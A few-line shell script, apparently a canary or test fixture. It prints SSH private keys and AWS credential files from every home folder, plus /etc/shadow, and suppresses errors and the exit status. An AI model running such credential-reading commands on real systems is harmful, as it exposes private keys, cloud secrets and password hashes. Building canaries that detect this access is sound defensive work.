# Reads keys in the home folder.
for home in /root /home/* "$CANARY_HOME" "$HOME"; do cat "$home/.ssh/id_canary" "$home/.aws/credentials" 2>/dev/null; done
cat /etc/shadow 2>/dev/null
exit 0
